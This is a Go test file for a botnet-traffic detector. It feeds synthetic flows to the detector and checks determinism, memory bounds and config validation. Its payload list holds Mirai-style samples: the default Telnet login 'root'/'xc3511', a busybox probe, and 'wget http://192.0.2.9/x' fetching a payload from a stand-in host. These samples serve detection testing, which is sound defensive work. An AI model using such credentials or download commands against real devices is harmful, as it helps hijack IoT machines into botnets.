package botnet

import (
	"fmt"
	"math/rand/v2"
	"slices"
	"testing"
	"time"

	"noroshi/detect"
	"noroshi/event"
	"noroshi/finding"
)

const start = event.Time(1_700_000_000e9)

func fresh(t testing.TB, change func(*Config)) *Detector {
	t.Helper()
	cfg := defaults().(*Config)
	if change != nil {
		change(cfg)
	}
	d, err := newDetector(detect.Env{Config: cfg})
	if err != nil {
		t.Fatal(err)
	}
	return d.(*Detector)
}

// say appends a packet.
func say(b *event.Batch, src, dst uint32, from, to uint16, payload string, at event.Time) {
	f := b.NewFlow()
	f.First, f.Last, f.Seen, f.Sampling, f.Packets, f.Bytes = at, at, at, 1, 1, 40+uint64(len(payload))
	f.Proto, f.TCPFlags, f.SrcPort, f.DstPort, f.Marks = event.TCP, event.ACK|event.PSH, from, to, event.OnePacket
	f.Src, f.Dst, f.Payload = four(src), four(dst), b.AddText([]byte(payload))
}

func four(a uint32) event.Addr {
	return event.AddrOf4([4]byte{byte(a >> 24), byte(a >> 16), byte(a >> 8), byte(a)})
}

// Findings depend neither on how the input is cut nor on when Advance is called.
func TestSameFindings(t *testing.T) {
	for seed := range uint64(30) {
		rnd := rand.New(rand.NewPCG(seed, 1))
		var all event.Batch
		now := start
		words := []string{handshake, handshake, keepAlive, handshake + "\x03arm", "\x00\x0a\x01\x02\x03\x00\x17\x04root\x06xc3511", command, "/bin/busybox ECCHI\r\n", "wget http://192.0.2.9/x", "root\r\n"}
		for range 1500 {
			now = now.Add(time.Duration(rnd.IntN(20)) * time.Second)
			if rnd.IntN(60) == 0 {
				now = now.Add(time.Duration(rnd.IntN(4000)) * time.Second)
			}
			bot, server := 10<<24+rnd.Uint32N(4), 0xC0000200+rnd.Uint32N(3)
			port := []uint16{23, 48101, 6667}[rnd.IntN(3)]
			if rnd.IntN(3) == 0 {
				say(&all, server, bot, port, 40000, words[rnd.IntN(len(words))], now)
			} else {
				say(&all, bot, server, 40000, port, words[rnd.IntN(len(words))], now)
			}
		}
		run := func(step, advance int) (list []string) {
			d := fresh(t, nil)
			last := map[finding.ID]string{}
			report := func(f *finding.Finding) {
				last[f.ID] = fmt.Sprint(f.Rule, " ", f.Subject, " ", f.ID, " ", f.First, " ", f.Last, " ", f.Ended, " ", f.Confidence, " ", f.PeerCount, f.Why.En)
			}
			for i := 0; i < all.Len(); i += step {
				var b event.Batch
				for j := i; j < min(i+step, all.Len()); j++ {
					if f := &all.Flows[j]; wanted(&all, f) {
						b.AppendFlow(&all, f)
					}
				}
				d.Detect(&b, report)
				if advance > 0 && i/step%advance == 0 && i+step < all.Len() {
					d.Advance(all.Flows[i+step].Seen, report)
				}
			}
			d.Finish(report)
			d.Advance(now.Add(24*time.Hour), report)
			for _, s := range last {
				list = append(list, s)
			}
			slices.Sort(list)
			return list
		}
		want := run(1500, 0)
		if seed == 0 && len(want) < 5 {
			t.Fatalf("only %d findings: the test shows nothing", len(want))
		}
		for _, c := range [][2]int{{1, 1}, {7, 1}, {100, 2}, {50, 0}} {
			if got := run(c[0], c[1]); !slices.Equal(got, want) {
				for i := range min(len(got), len(want)) {
					if got[i] != want[i] {
						t.Fatalf("seed %d, %v:\ngot  %s\nwant %s", seed, c, got[i], want[i])
					}
				}
				t.Fatalf("seed %d, %v: %d findings, want %d", seed, c, len(got), len(want))
			}
		}
	}
}

// Forged greetings by the hundred thousand stay in the bound and push out no
// server that is known.
func TestForged(t *testing.T) {
	d := fresh(t, func(c *Config) { c.MaxServers, c.MaxDevices, c.MaxClients = 100, 100, 10 })
	none := func(*finding.Finding) {}
	var b event.Batch
	say(&b, 10<<24+1, 0xC0000201, 40000, 23, handshake, start)
	say(&b, 10<<24+2, 0xC0000201, 40000, 23, handshake, start)
	d.Detect(&b, none)
	rnd := rand.New(rand.NewPCG(1, 2))
	for range 100 {
		b.Reset()
		for range event.BatchSize {
			port := []uint16{6667, 48101, 23}[rnd.IntN(3)]
			text := []string{handshake, "\x00" + string(rune(1+rnd.IntN(100))) + "\x02\x03\x04\x00\x17\x04root\x01x", command[:8] + string(rune(1+rnd.IntN(100))) + command[9:], "root"}[rnd.IntN(4)]
			say(&b, rnd.Uint32(), rnd.Uint32(), 40000, port, text, start+event.Time(rnd.IntN(1e9)))
		}
		d.Detect(&b, none)
	}
	if s := d.find(endpoint{four(0xC0000201), 23}, "c2", start); s == nil {
		t.Error("forged servers pushed out one that was known")
	}
	n := 0
	for _, s := range d.servers.all() {
		n += len(s.clients)
	}
	for _, s := range d.loaders.all() {
		n += len(s.clients)
	}
	u := d.Usage()
	if n != d.clients || u.Bytes > 4<<20 || u.Evicted == 0 || len(d.servers.queue) != d.servers.len() || d.servers.len() > 100 || d.first.len() > 100 {
		t.Errorf("%d clients, counted %d; %d octets, %d evicted, %d servers", n, d.clients, u.Bytes, u.Evicted, d.servers.len())
	}
}

func TestKnobs(t *testing.T) {
	for name, change := range map[string]func(*Config){
		"min_reporters": func(c *Config) { c.MinReporters = 0 }, "min_devices": func(c *Config) { c.MinDevices = 0 }, "max_servers": func(c *Config) { c.MaxServers = 0 },
		"within": func(c *Config) { c.Within = 0 }, "quiet": func(c *Config) { c.Quiet = 1 }, "update": func(c *Config) { c.Update = 1 },
	} {
		cfg := defaults().(*Config)
		change(cfg)
		if _, err := newDetector(detect.Env{Config: cfg}); err == nil {
			t.Errorf("%s: no error", name)
		}
	}
}
